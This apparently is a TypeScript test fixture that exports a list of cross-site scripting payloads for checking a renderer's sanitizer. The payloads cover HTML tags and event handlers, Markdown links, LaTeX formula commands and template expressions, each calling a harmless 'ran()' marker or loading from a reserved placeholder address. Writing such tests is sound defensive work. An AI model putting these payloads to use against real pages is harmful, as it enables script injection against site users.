/** Run by a payload that works; a test listens for it. Short, so that it fits wherever a payload does. */
const run = "ran()";
const elsewhere = "//192.0.2.1";

/** Elements that run a script by themselves, or once something is done to them. */
const elements = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${elsewhere}/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script>`,
  `<script type=module>${run}</script>`,
  `"><script>${run}</script>`,
  `'><img src=x onerror=${run}>`,
  `<img src=x onerror=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src="x" onerror="${run}" alt="`,
  `<IMG SRC=x OnErRoR=&#114;&#97;&#110;()>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${run}></svg>#x">`,
  `<math><maction actiontype=statusline xlink:href=javascript:${run}>x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}></textarea><script>${run}</script>`,
  `<marquee onstart=${run}>`,
  `<style>@import "${elsewhere}/x.css";</style><style onload=${run}></style>`,
  `<link rel=stylesheet href="${elsewhere}/x.css" onerror=${run}>`,
  `<base href="${elsewhere}/"><a href="/x">x</a>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[><img src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><script>${run}</script>`,
  `</textarea></title></style></script><script>${run}</script>`,
];

/** The same through the text's own languages: Markdown and formulas. */
const marked = [
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](java\tscript:${run})`,
  `[x](&#x6A;avascript:${run})`,
  `[x](data:text/html,<script>${run}</script>)`,
  `[x](vbscript:${run})`,
  `![x](x "onerror=${run}")`,
  `![x"onerror="${run}](x)`,
  `![x](${elsewhere}/x.png)`,
  `<javascript:${run}>`,
  `[x]: javascript:${run}\n\n[x]`,
  `| a |\n|---|\n| <img src=x onerror=${run}> |`,
  `\`\`\`html"><script>${run}</script>\nx\n\`\`\``,
  `$\\href{javascript:${run}}{x}$`,
  `$\\url{javascript:${run}}$`,
  `$\\includegraphics{${elsewhere}/x.png}$`,
  `$\\htmlData{x=" onmouseover=${run}}{x}$`,
  `$$\\text{<img src=x onerror=${run}>}$$`,
];

/** And through what a program might take a text for. */
const evaluated = [`{{constructor.constructor('${run}')()}}`, `\${${run}}`, `javascript:${run}`];

/** Texts that run `ran()`, or fetch from another host, where a page takes them for anything but words. */
export const scriptPayloads: readonly string[] = [...elements, ...marked, ...evaluated];
